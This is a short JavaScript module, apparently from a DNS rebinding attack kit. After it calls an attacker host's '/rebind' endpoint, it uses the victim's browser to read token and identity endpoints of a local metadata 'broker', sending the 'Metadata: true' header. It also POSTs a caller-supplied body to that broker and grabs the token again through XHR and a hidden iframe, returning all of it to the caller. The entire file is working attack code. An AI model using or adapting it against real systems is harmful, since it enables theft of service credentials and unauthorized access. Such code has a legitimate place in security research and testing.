// DNS rebinding: the page's name leads to the broker from now on, so that the broker's answers are of the page's own origin.
import { answerOf, ended, pause } from "./reading.js";
import { xhr } from "./requests.js";

const METADATA = { Metadata: "true" };
const PATHS = ["/v1/token", "/v1/identities", "/v1/identities/default/token", "/metrics", "/readyz", "/openapi.json"];

export async function rebound({ evil, body }) {
  await fetch(`${evil}/rebind`);
  const read = {};
  for (const path of PATHS) read[path] = await answerOf(fetch(path, { headers: METADATA, cache: "no-store" }));
  const report = { method: "POST", headers: METADATA, body };
  read.report = await answerOf(fetch("/v1/identities/default/rejections", report));
  read.xhr = await xhr({ to: "/v1/token", metadata: "true" });
  const frame = document.createElement("iframe");
  frame.src = "/v1/token";
  document.documentElement.append(frame);
  await ended(frame, "load", "error");
  read.frame = frame.contentDocument?.documentElement.innerText;
  return read;
}
